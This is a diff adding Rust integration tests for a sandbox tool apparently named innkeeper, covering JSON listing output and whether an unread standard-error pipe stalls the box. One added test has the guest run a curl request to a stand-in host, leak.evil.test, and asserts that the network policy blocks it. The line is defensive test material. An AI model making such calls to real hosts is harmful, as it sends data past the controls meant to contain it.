@@ -70,6 +70,8 @@ fn rm_stops_a_box_and_ls_forgets_it() {
     assert!(second.1.contains("innkeeper in one") && second.1.contains("--name"), "{}", second.1);
     let listed = host.innkeeper(&["ls"]).expect("ls");
     assert!(listed.contains("one") && listed.contains("embedded") && listed.contains("running"), "{listed}");
+    let listed: serde_json::Value = serde_json::from_str(&host.innkeeper(&["ls", "--json"]).out).unwrap();
+    assert_eq!((&listed["name"], &listed["state"]), (&"one".into(), &"running".into()), "{listed}");
     host.innkeeper(&["rm", "one"]).expect("rm");
     assert_eq!(guest.end().0, Some(143));
     assert!(!host.innkeeper(&["ls"]).out.contains("one"));
@@ -234,4 +236,33 @@ fn a_signal_that_comes_while_the_box_is_made_is_obeyed() {
         assert!(!said.contains("again"), "once is enough: {said}");
         assert_eq!(host.snapshot(), before);
     }
+}
+
+/// A log driver that hangs, a terminal that was stopped: whoever reads the box's standard error does not hold it up.
+#[test]
+fn a_standard_error_that_nobody_reads_stops_neither_the_box_nor_its_end() {
+    let Some(host) = BareHost::new() else { return };
+    let mut guest = host.boot("one", &Options::new());
+    let reading = std::sync::Arc::clone(&guest.reading);
+    let unheard = reading.lock().unwrap();
+    // Lines of several kilobytes: a pipe holds 64 KiB.
+    let rules: Vec<String> =
+        (0..200).map(|i| format!("n{i}.a-rather-long-name-of-some-host.evil.test")).collect();
+    let words = |verb: &'static str| -> Vec<&str> {
+        ["in", "one", verb].into_iter().chain(rules.iter().map(String::as_str)).collect()
+    };
+    for _ in 0..8 {
+        host.innkeeper(&words("allow")).expect("allow");
+        host.innkeeper(&words("revoke")).expect("revoke");
+    }
+    let refused = guest.agent("curl -sS -m 10 http://leak.evil.test/");
+    assert!(!refused.ok() && refused.err.contains("resolve"), "{refused:?}");
+    assert!(guest.agent("curl -sS -m 10 http://ok.test/").out.contains("token-"));
+    host.innkeeper(&["in", "one", "allow", "two.test:80"]).expect("allow");
+    assert!(guest.agent("curl -sS -m 10 http://two.test/").out.contains("token-"));
+    let status = host.innkeeper(&["in", "one", "status", "--json"]).expect("status");
+    assert!(status.contains("\"phase\": \"ready\""), "{status}");
+    guest.signal_keeper(Signal::TERM);
+    assert_eq!(guest.end_unheard(), Some(143));
+    drop(unheard);
 }
